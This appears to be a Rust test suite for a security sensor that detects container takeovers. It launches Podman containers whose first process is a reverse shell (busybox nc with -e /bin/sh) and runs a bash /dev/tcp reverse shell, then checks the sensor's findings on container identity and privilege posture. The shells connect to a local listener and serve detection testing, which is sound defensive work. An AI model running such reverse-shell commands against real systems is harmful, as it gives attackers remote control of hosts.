//! Takeovers in containers: the finding names the container, and of one of Podman says how it was started.

use std::{
    fs,
    io::ErrorKind,
    path::{Path, PathBuf},
};

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    containers::{Podman, Store, USER},
    deadline::wait_for,
    finding::Finding,
    lab::{Lab, REVERSE},
    peer::{Listener, Peer, V4},
    suite::Case,
};
use serde_json::{Value, json};

/// As containers of administrators are run.
const TRUSTED: &[&str] = &[
    "--privileged",
    "--pid=host",
    // Also leaves nothing mounted below the case's directory.
    "--ipc=host",
    "--read-only",
    "--security-opt=no-new-privileges",
];

/// A container whose first process connects a shell to the peer.
struct Taken<'a> {
    podman: Podman<'a>,
    name: String,
    id: String,
    peer: Peer,
}

impl<'a> Taken<'a> {
    fn new(lab: &'a Lab<'a>, store: Store, options: &[&str]) -> Result<Self> {
        let listener = Listener::tcp(V4)?;
        let podman = Podman::new(lab, store)?;
        let port = listener.port()?;
        let name = format!("sensor-test-{port}");
        let program = format!("/bin/busybox nc 127.0.0.1 {port} -e /bin/sh");
        let program: Vec<&str> = program.split(' ').collect();
        let id = podman.run(&name, options, &program)?;
        Ok(Self {
            podman,
            name,
            id,
            peer: listener.accept()?,
        })
    }

    /// All that a finding says of a container in root's store.
    fn container(&self) -> Value {
        json!({ "runtime": "podman", "id": self.id, "name": self.name, "image": self.podman.image })
    }
}

/// Demands of a finding's container what `expected` says of it.
fn contained(finding: &Finding, expected: &Value) -> Result<()> {
    let container = finding.property("container");
    ensure!(
        container == Some(expected),
        "the container is {container:?} instead of {expected}: {finding}"
    );
    Ok(())
}

/// The posture of process `pid` by what /proc says of it.
fn posture(pid: u32, writable_root: bool) -> Result<Value> {
    let proc =
        |name: &str| fs::read_to_string(format!("/proc/{pid}/{name}")).with_context(|| format!("{name} of {pid}"));
    let status = proc("status")?;
    let field = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name));
        line.map(str::trim).context("no such field")
    };
    let capabilities = u64::from_str_radix(field("CapEff:")?, 16)?;
    let last: u32 = fs::read_to_string("/proc/sys/kernel/cap_last_cap")?.trim().parse()?;
    let namespace = |who: &str, name: &str| fs::read_link(format!("/proc/{who}/ns/{name}")).ok();
    let host = |name: &str| {
        // Not everybody may look at the first process. This one is where it is, but numbers of these two are not fixed, so
        // that the sensor can't tell.
        let own = || namespace("self", name).filter(|_| !["net", "mnt"].contains(&name));
        namespace("1", name).or_else(own)
    };
    let shared: Vec<&str> = ["net", "pid", "mnt", "ipc", "uts", "user", "cgroup"]
        .into_iter()
        .filter(|name| host(name).is_some_and(|host| namespace(&pid.to_string(), name) == Some(host)))
        .collect();
    let seccomp = ["disabled", "strict", "filter"].get(field("Seccomp:")?.parse::<usize>()?);
    let mut posture = json!({
        "capabilities": capabilities.count_ones(),
        "privileged": capabilities == u64::MAX >> (63 - last) && shared.contains(&"user"),
        "seccomp": seccomp,
        "noNewPrivs": field("NoNewPrivs:")? == "1",
        "hostNamespaces": shared,
        "writableRoot": writable_root,
    });
    let map = proc("uid_map")?;
    let root = map.split_whitespace().nth(1).context("no root")?;
    if root != "0" {
        posture["mappedRoot"] = root.parse::<u32>()?.into();
    }
    // Not every kernel has a security module that labels.
    let label = proc("attr/current").unwrap_or_default();
    let label = label.trim_matches(['\0', '\n']);
    if !label.is_empty() {
        posture["securityLabel"] = label.into();
    }
    Ok(posture)
}

/// A takeover in a container that was started with `options`: named by the finding, with the posture that /proc says, and of that
/// what `expected` says.
fn takeover(
    lab: &Lab<'_>,
    store: Store,
    options: &[&str],
    writable_root: bool,
    expected: &[(&str, Value)],
) -> Result<()> {
    let mut taken = Taken::new(lab, store, options)?;
    let peer = &mut taken.peer;
    peer.id()?;
    let first = lab.finding(peer.ends(), REVERSE)?;
    let finding = lab.enriched(&first)?;
    match store {
        Store::Default => {
            // In time for exceptions by name and image.
            contained(&first, &taken.container())?;
            contained(&finding, &taken.container())?;
        }
        // No state file of root's in the usual place tells more.
        Store::Own => contained(&finding, &json!({ "runtime": "podman", "id": taken.id }))?,
        // With the first version of control groups, a user's container has none of its own.
        Store::User => {}
    }
    let shell = taken
        .podman
        .call(&["inspect", "--format={{.State.Pid}}", &taken.name])?
        .parse()?;
    let pid = finding.processes()?.first().map(|process| process.pid);
    ensure!(pid == Some(shell), "the shell is {pid:?} instead of {shell}: {finding}");
    let mut posture_found = finding.property("posture").cloned().context("no posture")?;
    let names = posture_found["capabilities"].take();
    let names = names.as_array().context("no capabilities")?;
    posture_found["capabilities"] = names.len().into();
    let posture = posture(shell, writable_root)?;
    ensure!(posture_found == posture, "the posture is not {posture}: {finding}");
    for (name, value) in expected {
        let found = match *name {
            // Whether it has one that no container has unless somebody gave it.
            "admin" => names.contains(&json!("CAP_SYS_ADMIN")).into(),
            "hostPid" => posture["hostNamespaces"]
                .as_array()
                .is_some_and(|all| all.contains(&json!("pid")))
                .into(),
            name => posture[name].clone(),
        };
        ensure!(found == *value, "{name} is {found} instead of {value}: {finding}");
    }
    taken.peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

fn plain(lab: &Lab<'_>) -> Result<()> {
    let expected = [
        ("admin", json!(false)),
        ("hostPid", json!(false)),
        ("seccomp", json!("filter")),
        ("noNewPrivs", json!(false)),
        ("privileged", json!(false)),
    ];
    takeover(lab, Store::Default, &[], true, &expected)
}

fn trusted(lab: &Lab<'_>) -> Result<()> {
    let expected = [
        ("admin", json!(true)),
        ("hostPid", json!(true)),
        ("seccomp", json!("disabled")),
        ("noNewPrivs", json!(true)),
    ];
    takeover(lab, Store::Own, TRUSTED, false, &expected)
}

fn user(lab: &Lab<'_>) -> Result<()> {
    let expected = [("mappedRoot", json!(USER)), ("privileged", json!(false))];
    takeover(lab, Store::User, &[], true, &expected)
}

/// Over before anybody could look: what the kernel recorded names the container.
fn short(lab: &Lab<'_>) -> Result<()> {
    let mut taken = Taken::new(lab, Store::Default, &[])?;
    taken.peer.send("id; exit\n")?;
    taken.peer.read_until("uid=")?;
    let finding = lab.finding(taken.peer.ends(), REVERSE)?;
    contained(&finding, &taken.container())?;
    contained(&lab.ended(&finding)?, &taken.container())
}

/// Control groups of a case, below those of the machine, whatever their version. Removed when nobody is in them any more.
struct Groups(Vec<PathBuf>);

impl Groups {
    /// Makes `path` wherever groups can be made.
    fn new(path: &str) -> Result<Self> {
        let mut made = Vec::new();
        for root in ["/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids"] {
            let root = Path::new(root);
            if root.join("cgroup.procs").exists() {
                fs::create_dir_all(root.join(path))
                    .with_context(|| format!("a control group in {}", root.display()))?;
                let whole = Path::new(path).ancestors().filter(|part| !part.as_os_str().is_empty());
                made.extend(whole.map(|part| root.join(part)));
            }
        }
        Ok(Self(made))
    }
}

impl Drop for Groups {
    fn drop(&mut self) {
        for group in &self.0 {
            let removed = wait_for("the last process of a control group", || match fs::remove_dir(group) {
                Err(error) if error.kind() == ErrorKind::ResourceBusy => Ok(None),
                _ => Ok(Some(())),
            });
            if let Err(error) = removed {
                eprintln!("{}: {error:#}", group.display());
            }
        }
    }
}

/// As under a systemd inside of a container: the container's own group is further up than the kernel's record reaches, and
/// known in time for exceptions all the same.
fn inner_groups(lab: &Lab<'_>) -> Result<()> {
    let id = format!("{:064x}", std::process::id());
    let path = format!("sensor-test/libpod-{id}/container/system.slice/some.service");
    let groups = Groups::new(&path)?;
    let innermost: Vec<String> = groups
        .0
        .iter()
        .filter(|group| group.ends_with("some.service"))
        .map(|group| group.join("cgroup.procs").display().to_string())
        .collect();
    let listener = Listener::tcp(V4)?;
    let script = "for group in $GROUPS_OF_IT; do echo $$ >$group; done; \
        exec unshare --mount bash -c 'exec 5<>/dev/tcp/127.0.0.1/$P; exec sh <&5 >&5 2>&5'";
    let port = listener.port()?.to_string();
    lab.bash(script, &[("P", &port), ("GROUPS_OF_IT", &innermost.join(" "))])?;
    let mut peer = listener.accept()?;
    peer.id()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    contained(&finding, &json!({ "runtime": "podman", "id": id }))?;
    peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    const TOOLS: &[&str] = &["podman", "runc", "busybox", "tar"];
    vec![
        Case::new("containers::podman", TOOLS, plain),
        Case::new(
            "containers::podman_with_a_store_elsewhere_and_all_rights",
            TOOLS,
            trusted,
        ),
        Case::new(
            "containers::podman_of_a_user",
            &["podman", "runc", "busybox", "tar", "setpriv"],
            user,
        ),
        Case::new("containers::podman_shell_of_a_short_life", TOOLS, short),
        Case::new(
            "containers::groups_inside_a_container",
            &["bash", "unshare"],
            inner_groups,
        ),
    ]
}
